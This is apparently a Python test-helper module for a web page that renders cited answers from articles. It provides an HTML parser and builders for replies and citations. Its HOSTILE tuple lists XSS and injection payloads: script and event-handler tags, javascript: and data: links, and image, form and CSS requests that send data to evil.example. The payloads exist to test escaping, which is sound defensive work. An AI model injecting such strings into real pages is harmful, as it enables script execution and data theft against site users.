"""What the page's tests share: replies and articles in a line, and HTML as a browser would read it."""

from collections.abc import Callable
from datetime import date
from html.parser import HTMLParser
from typing import Any

from hypothesis import strategies as st

from app.records import AnswerSentence, Citation, Conflict, DateRange, Reply, RetrievedPassage, Usage
from index.errors import UsageError
from index.records import Article

# Whatever an article may hold; a parser of HTML drops what is excluded.
TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
HOSTILE = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![pixel](https://evil.example/pixel.png)",
    "[click](javascript:alert(1))",
    "</template></article><h1>mine</h1>",
    "${alert(1)} {{value}} `",
    "Right \u202eto left\u202c again \u2066\u2069",
    '" autofocus onfocus="alert(1)',
    "&lt;b&gt; &amp; &#60;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    '<a href="jav&#x61;script:alert(1)">read more</a>',
    "[x]: data:text/html;base64,PHNjcmlwdD4= [x][x] <data:text/html,x>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<svg onload="alert(1)"><use href="data:image/svg+xml,x"/></svg>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<form action="https://evil.example"><input name="q" autofocus>',
    "</s></span></p></div><p class='support supported'>✓ supported</p>",
    "~~**[1](https://evil.example)**~~ ![](//evil.example/?q=secret)",
    "https://evil.example/?q=secret www.evil.example me@evil.example",
)


class Shown(HTMLParser):
    """HTML read: its elements in order as (tag, attributes), and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self._texts: list[tuple[str, dict[str, str], list[str]]] = []
        self._open: list[tuple[str, dict[str, str], list[str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = {name: value or "" for name, value in attrs}
        self.elements.append((tag, named))
        if tag not in ("br", "input"):
            element: tuple[str, dict[str, str], list[str]] = (tag, named, [])
            self._open.append(element)
            self._texts.append(element)

    def handle_endtag(self, tag: str) -> None:
        assert self._open, f"</{tag}> closes nothing"
        assert self._open[-1][0] == tag, f"</{tag}> closes <{self._open[-1][0]}>"
        self._open.pop()

    def handle_data(self, data: str) -> None:
        self.text += data
        for _, _, words in self._open:
            words.append(data)

    def texts(self, wanted: str) -> list[str]:
        """Return the text of every element with the class `wanted`."""
        return ["".join(words) for _, named, words in self._texts if wanted in named.get("class", "").split()]

    @property
    def tags(self) -> set[str]:
        return {tag for tag, _ in self.elements}


def article(text: str, article_id: str = "a.txt", **facts: Any) -> Article:
    return Article(id=article_id, text=text, **facts)


def citation(article: Article, quote: str, number: int = 1) -> Citation:
    start = article.text.index(quote)
    return Citation(
        number, article.id, article.title, article.source, article.published, article.url,
        quote, start, start + len(quote),
    )  # fmt: skip


def reply(
    answer: str = "",
    sentences: tuple[AnswerSentence, ...] = (),
    citations: tuple[Citation, ...] = (),
    *,
    question: str = "What happened?",
    standalone: str | None = None,
    answered: bool = True,
    engine: str = "quotes",
    passages: tuple[RetrievedPassage, ...] = (),
    conflicts: tuple[Conflict, ...] = (),
    dates: DateRange | None = None,
    notice: str = "",
    usage: Usage | None = None,
) -> Reply:
    return Reply(
        question, standalone or question, answered, answer, engine, "0" * 12, sentences, citations,
        passages, conflicts, dates, {"total": 12.3}, notice=notice, usage=usage,
    )  # fmt: skip


def among(*articles: Article) -> Callable[[str], Article]:
    known = {one.id: one for one in articles}

    def article_of(article_id: str) -> Article:
        if article_id not in known:
            raise UsageError(f"there is no article {article_id!r}")
        return known[article_id]

    return article_of


A_DAY = date(2020, 6, 2)
